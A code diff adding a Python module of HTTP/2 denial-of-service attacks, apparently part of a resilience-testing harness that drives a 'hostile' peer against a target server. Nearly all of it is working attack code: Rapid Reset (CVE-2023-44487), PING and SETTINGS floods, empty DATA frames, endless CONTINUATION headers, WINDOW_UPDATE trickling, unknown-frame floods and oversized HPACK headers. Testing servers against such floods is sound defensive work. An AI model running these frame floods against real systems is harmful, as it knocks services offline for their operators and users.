@@ -1,0 +1,112 @@
+"""Kinds that ask for work and have no use for it: the same frames again and again."""
+
+import itertools
+from collections.abc import Iterable, Iterator
+from typing import Final
+
+from h2.errors import ErrorCodes
+from h2.settings import SettingCodes
+
+from .http2 import (
+    CONTINUATION,
+    DATA,
+    END_HEADERS,
+    END_STREAM,
+    HEADERS,
+    HIGHEST_WINDOW,
+    PING,
+    RST_STREAM,
+    WINDOW_UPDATE,
+    frame,
+    head_block,
+    hostile,
+    settings,
+)
+from .target import Course, Target
+
+_BURST: Final = 50  # frames in one write
+# Of what a head may be, most; each byte on the wire is read bit by bit (RFC 7541, 5.2).
+_LONG_VALUE: Final = "0" * 15_500
+_LONG_WEIGHT: Final = 20  # in frames
+_STREAMS: Final = 100
+_STREAM_IDS: Final = range(1, HIGHEST_WINDOW, 2)
+
+
+async def _pour(target: Target, course: Course, frames: Iterable[bytes], *, weight: int = 1) -> None:
+    async with hostile(target, course) as peer:
+        rest = iter(frames)
+        while burst := tuple(itertools.islice(rest, max(1, _BURST // weight))):
+            await peer.send(*burst, weight=weight)
+            course.stands.set()
+
+
+async def rapid_reset(target: Target, course: Course) -> None:
+    """Opens streams and resets each at once (CVE-2023-44487)."""
+    await _pour(target, course, _resets(target.path))
+
+
+def _resets(path: str) -> Iterator[bytes]:
+    head = head_block(path)
+    code = ErrorCodes.CANCEL.to_bytes(4, "big")
+    for stream_id in _STREAM_IDS:
+        yield frame(HEADERS, stream_id, head, END_HEADERS)
+        yield frame(RST_STREAM, stream_id, code)
+
+
+async def pings(target: Target, course: Course) -> None:
+    """Asks for the answers to PINGs (CVE-2019-9512)."""
+    await _pour(target, course, itertools.repeat(frame(PING, payload=b"12345678")))
+
+
+async def changed_settings(target: Target, course: Course) -> None:
+    """Asks for the answers to SETTINGS (CVE-2019-9515)."""
+    sizes = itertools.cycle(range(4096))
+    await _pour(target, course, (settings({SettingCodes.HEADER_TABLE_SIZE: size}) for size in sizes))
+
+
+async def empty_data(target: Target, course: Course) -> None:
+    """Sends a message in frames with nothing in them (CVE-2019-9518)."""
+    head = frame(HEADERS, 1, head_block(target.path), END_HEADERS)
+    await _pour(target, course, itertools.chain([head], itertools.repeat(frame(DATA, 1))))
+
+
+async def continuations(target: Target, course: Course) -> None:
+    """Sends a head that never ends (CVE-2024-28182 and its kin)."""
+    block = frame(CONTINUATION, 1, head_block(target.path)[:8])
+    await _pour(target, course, itertools.chain([frame(HEADERS, 1)], itertools.repeat(block)))
+
+
+async def window_updates(target: Target, course: Course) -> None:
+    """Opens the connection's window byte by byte, for answers that it never asks for."""
+    await _pour(target, course, itertools.repeat(frame(WINDOW_UPDATE, payload=b"\0\0\0\1")))
+
+
+async def unknown_frames(target: Target, course: Course) -> None:
+    """Sends frames of a kind that nobody knows, which are to be passed over (RFC 9113, 4.1)."""
+    await _pour(target, course, itertools.repeat(frame(0x60, payload=b"?")))
+
+
+async def unknown_methods(target: Target, course: Course) -> None:
+    """Calls what is not there."""
+    head = head_block("/no.Such/Method")
+    await _pour(target, course, (frame(HEADERS, number, head, END_HEADERS | END_STREAM) for number in _STREAM_IDS))
+
+
+async def long_heads(target: Target, course: Course) -> None:
+    """Calls what is not there, with heads that are much work to read."""
+    head = head_block("/no.Such/Method", x=_LONG_VALUE)
+    heads = (frame(HEADERS, number, head, END_HEADERS | END_STREAM) for number in _STREAM_IDS)
+    await _pour(target, course, heads, weight=_LONG_WEIGHT)
+
+
+async def trickling_window(target: Target, course: Course) -> None:
+    """Holds streams whose windows are shut, and opens the first one's byte by byte, each time waking all of them."""
+    announced = {SettingCodes.INITIAL_WINDOW_SIZE: 0}
+    async with hostile(target, course, announced=announced) as peer:
+        for last in _STREAM_IDS:
+            await peer.call(last)
+            course.stands.set()
+            first = last - 2 * _STREAMS
+            if first in _STREAM_IDS:
+                while first not in course.ended:
+                    await peer.send(frame(WINDOW_UPDATE, first, b"\0\0\0\1"))
